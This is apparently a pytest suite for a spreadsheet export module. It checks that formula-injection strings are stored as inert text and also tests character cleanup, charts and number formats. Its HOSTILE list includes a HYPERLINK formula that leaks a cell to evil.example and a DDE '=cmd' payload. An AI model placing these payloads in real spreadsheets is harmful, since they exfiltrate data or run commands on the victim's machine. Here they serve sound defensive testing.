"""Workbooks as a spreadsheet program opens them: hostile text stays text, odd characters never break the file."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from exports.workbook import CELL_MAX, Chart, Column, Sheet, Table, Typed, cell_text, sheet_title, write_workbook
from tests.spreadsheet import sheets_as_csv

HOSTILE = [
    "=1+1",
    "+41*2",
    "-3+5",
    "@SUM(A1:A2)",
    "\t=2*3",
    "\r=2*3",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
]
COLUMNS = [Column("Unit", 20), Column("Score", 8, "number"), Column("Answers", 8, "integer"), Column("Comment", 40)]


def _book(tmp_path: Path, rows, **sheet) -> Path:
    path = tmp_path / "book.xlsx"
    intro = sheet.pop("intro", ())
    write_workbook(str(path), [Sheet("Results", [Table(COLUMNS, rows, **sheet)], intro=intro)])
    return path


def test_hostile_text_is_written_as_text_never_as_a_formula(tmp_path):
    path = _book(tmp_path, [(f"Unit {i}", 50.0, 5, text) for i, text in enumerate(HOSTILE)])
    cells = [row[3] for row in load_workbook(path).active.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == HOSTILE
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells)


def test_libreoffice_shows_hostile_text_verbatim_and_numbers_as_numbers(tmp_path):
    rows = [(f"Unit {i}", 50.5 + i, 5 + i, text) for i, text in enumerate(HOSTILE)]
    (sheet,) = sheets_as_csv(_book(tmp_path, rows)).values()
    assert sheet[0] == ["Unit", "Score", "Answers", "Comment"]
    assert [row[3] for row in sheet[1:]] == HOSTILE  # "=1+1" is not 2, "@SUM" is not a sum
    assert [row[1] for row in sheet[1:3]] == ["50.5", "51.5"] and sheet[2][2] == "6"


def test_characters_a_spreadsheet_cannot_hold_are_removed_and_long_text_is_cut_visibly(tmp_path):
    odd = "a\x00b\x0bc\x1fd\ufffee\uffff f\ud800g \u202eRTL\u202c 👩‍⚕️ Å" + "\u0301"
    long = "x" * (CELL_MAX + 500)
    path = _book(tmp_path, [("Unit", 1.0, 1, odd), ("Unit 2", 2.0, 2, long), ("Unit 3", None, None, "ok")])
    (sheet,) = sheets_as_csv(path).values()  # LibreOffice opens the file
    assert sheet[1][3] == "abcde fg \u202eRTL\u202c 👩‍⚕️ Å\u0301"
    assert len(sheet[2][3]) == CELL_MAX and sheet[2][3].endswith("[…]")
    assert sheet[3][1:3] == ["", ""]
    assert cell_text("line one\nline two\ttab") == "line one\nline two\ttab"


def test_headings_are_frozen_and_filtered_with_a_heatmap_and_a_native_chart(tmp_path):
    rows = [(f"Unit {i}", float(40 + i), 10, "") for i in range(12)]
    chart = Chart("Score per unit", 0, (1,), y_max=100)
    path = _book(tmp_path, rows, intro=["Spring round 2026", "Groups under 5 are hidden"], colour_scale=[1],
                 charts=[chart])  # fmt: skip
    sheet = load_workbook(path).active
    assert sheet.freeze_panes == "B5"  # two intro lines, a blank line, the headings
    assert sheet.auto_filter.ref == "A4:D16"
    assert [str(rule.sqref) for rule in sheet.conditional_formatting] == ["B5:B16"]
    assert sheet.column_dimensions["D"].width == 40
    assert sheet["B5"].number_format == "0.0"
    with zipfile.ZipFile(path) as archive:
        chart_xml = archive.read("xl/charts/chart1.xml").decode()
    assert "'Results'!$B$5:$B$16" in chart_xml and "'Results'!$A$5:$A$16" in chart_xml


def test_sheet_titles_are_valid_and_unique():
    taken: set[str] = set()
    assert sheet_title("Hemtjänst: Norr/Söder [2026]?", taken) == "Hemtjänst- Norr-Söder -2026--"
    first = sheet_title("A very long unit name that goes on and on", taken)
    second = sheet_title("A very long unit name that goes on and on", taken)
    assert len(first) <= 31 and len(second) <= 31 and first != second and second.endswith("(2)")


def test_rows_are_streamed_from_a_generator_and_counted(tmp_path):
    consumed = []

    def rows():
        for i in range(2500):
            consumed.append(i)
            yield (f"Unit {i}", float(i % 100), i, "")

    seen = []
    written = write_workbook(str(tmp_path / "big.xlsx"), [Sheet("Big", [Table(COLUMNS, rows())])], progress=seen.append)
    assert written == 2500 and len(consumed) == 2500 and seen == [1000, 2000]
    book = load_workbook(tmp_path / "big.xlsx", read_only=True)  # read-only keeps the file open until closed
    try:
        assert sum(1 for _ in book["Big"].iter_rows()) == 2501
    finally:
        book.close()


@pytest.mark.parametrize("value", [True, False])
def test_booleans_are_words_not_numbers(tmp_path, value):
    path = _book(tmp_path, [("Unit", value, 1, "")])
    assert load_workbook(path).active["B2"].value == str(value)


def test_a_share_is_a_number_with_a_percent_format_so_the_reader_sees_it_in_their_own_format(tmp_path):
    columns = [Column("What"), Column("Response rate", kind="percent"), Column("Value", kind="integer")]
    rows = [("Unit", 6.6, Typed(66.7, "percent")), ("Invited", None, 12)]
    path = tmp_path / "shares.xlsx"
    chart = Chart("Response rate", 0, (1,), kind="line")
    write_workbook(str(path), [Sheet("Shares", [Table(columns, rows, charts=[chart])])])
    sheet = load_workbook(path).active
    share, mixed, count = sheet["B2"], sheet["C2"], sheet["C3"]
    assert (share.data_type, share.value, share.number_format) == ("n", pytest.approx(0.066), "0.0%")
    assert (mixed.data_type, mixed.value, mixed.number_format) == ("n", pytest.approx(0.667), "0.0%")
    assert (count.value, count.number_format) == (12, "General") and sheet["B3"].value is None
    with zipfile.ZipFile(path) as archive:
        assert '<numFmt formatCode="0%"' in archive.read("xl/charts/chart1.xml").decode()  # the axis too
